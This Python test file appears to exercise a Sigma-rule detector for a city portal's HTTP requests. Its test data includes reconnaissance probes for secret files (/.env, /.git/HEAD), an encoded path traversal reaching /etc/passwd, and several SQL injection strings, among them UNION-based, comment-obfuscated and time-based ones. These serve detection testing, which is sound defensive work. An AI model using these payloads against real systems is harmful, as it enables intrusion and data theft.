@settings(max_examples=400, deadline=None)
@given(
    uri=_TEXT,
    referrer=st.one_of(st.none(), _TEXT),
    agent=st.one_of(st.none(), st.just("-"), _TEXT),
    headers=st.lists(_HEADER, min_size=1, max_size=4),
    body=_TEXT,
    method=st.sampled_from(["GET", "POST", "PROPFIND", "-", "İ"]),
)
def test_one_search_of_a_full_request_misses_no_part(
    uri: str,
    referrer: str | None,
    agent: str | None,
    headers: list[tuple[str, str]],
    body: str,
    method: str,
) -> None:
    """Nothing found in a full request's parts joined means nothing in any part searched alone,
    so the candidates are those part by part (with keywords, there is no such search)."""
    for rules in (_FIELDS, _RULES):
        fast = rules._prefilter
        slow = _PartByPart(list(rules.rules))
        request = HttpRequest(
            method=method,
            uri=uri,
            headers=tuple(headers),
            body=body,
            referrer=referrer,
            user_agent=agent,
        )
        event = Event(id="r", timestamp=T0, dataset="portal.http", payload=request)
        if fast.sweep is not None and fast._clean(request):
            parts = line_parts(request, fast.headers, fast.body)
            assert not any(fast._in_part(seg, parts[seg]) for seg, _ in fast.parts)
        assert fast.candidates(event, request)[0] == slow.candidates(event, request)[0]


def test_no_one_search_with_keywords_or_a_literal_of_several_lines(tmp_path: Path) -> None:
    lines = detector(tmp_path, rule_yaml('sel:\n    c-useragent|contains: "a\\nb"\ncondition: sel'))
    assert _RULES._prefilter.sweep is None
    assert lines._prefilter.sweep is None
    assert _FIELDS._prefilter.sweep is not None
    across = req("/", headers=(("User-Agent", "a"), ("X", "b")))
    assert titles(lines, across) == brute_force(lines, across) == []
    within = req("/", headers=(("User-Agent", "xa\nby"),))
    assert titles(lines, within) == brute_force(lines, within) == ["Test rule"]


# --- end to end ---------------------------------------------------------------------------------


def test_end_to_end_through_the_runner(enricher: Enricher) -> None:
    det = SigmaRules(SigmaRulesConfig(gap_s=60.0))
    errors: list[Exception] = []
    runner = DetectorRunner(det, lambda name, ev, exc: errors.append(exc))
    out: list[Detection] = []
    attacker, other = "198.51.100.66", "203.0.113.10"
    probes = ["/.env", "/actuator/env", "/wp-login.php", "/.git/HEAD"]
    for i, path in enumerate(probes):
        runner.process(enricher(req(path, ip=attacker, t=i, rid=f"scan-{i}")), out)
    runner.process(
        enricher(req("/documents/..%2f..%2fetc%2fpasswd", ip=attacker, t=5, rid="trav-1")), out
    )
    runner.process(enricher(req("/documents/x/download", ip=other, t=6, rid="ok-1")), out)
    runner.process(
        enricher(req("/x", ip=attacker, t=7, rid="other-dataset", dataset="network.conn")), out
    )
    runner.flush(out)
    assert errors == []
    final = {d.id: d for d in out}  # re-emissions share the id; the last one is complete
    by_class = {d.attributes["portal"]["class"]: d for d in final.values()}
    assert set(by_class) == {"scan", "traversal"}
    scan = by_class["scan"]
    assert scan.evidence == [f"scan-{i}" for i in range(4)]
    assert scan.detector == "sigma" and scan.entity["source.ip"] == attacker
    assert scan.tags == ["attack.T1595.003"] or scan.tags == ["attack.T1595.002"]
    assert scan.attributes["portal"]["requests"] == 4
    assert set(scan.attributes["portal"]["rules"]) == {
        "a15d4902-cbf7-40cc-b09c-770b6fc58f68",
        "10884023-c661-46e0-9755-8a2c98203a19",
    }
    trav = by_class["traversal"]
    assert trav.rule_id == "0e8a8264-4091-4dd3-9785-2f252bae45a8"
    assert trav.rule_name == "Path Traversal On Portal Documents"
    assert trav.severity == 70 and trav.evidence == ["trav-1"]
    assert trav.attributes["portal"]["location"] == "uri"
    assert "..%2f" in trav.attributes["portal"]["snippet"]
    assert runner.states == {}


_TAX = (("Host", "portal.aldmere.city"), ("Content-Type", "application/x-www-form-urlencoded"))


def _tax_note(note: str) -> Event:
    body = urlencode({"year": "2025", "amount": "2419.65", "note": note})
    return Event(
        id="t-1", timestamp=T0, dataset="portal.http",
        payload=HttpRequest(method="POST", uri="/tax/file", body=body, headers=_TAX),
    )  # fmt: skip


@pytest.mark.parametrize(
    ("note", "sqli"),
    [
        # notes citizens write (were "SQL Injection In A Tax Filing")
        ("Rent for 'Ilica 12' and 'Savska 3' flats", False),
        ("Is the 'student' or 'employee' rate right?", False),
        ("Trade union select committee fee deductible?", False),
        # injections
        ("x' or '1'='1", True),
        ("x') or ('a'='a", True),
        ("x' UNION SELECT NULL,NULL--", True),
        ("x'/**/union/**/select/**/null--", True),
        ("a' and sleep(5)--", True),
        ("1 or 1=1", True),
    ],
)
def test_the_shipped_tax_filing_rule_reads_injections_not_notes(note: str, sqli: bool) -> None:
    names = {h.rule_name for h in SigmaRules().inspect(_tax_note(note))}
    assert ("SQL Injection In A Tax Filing" in names) is sqli
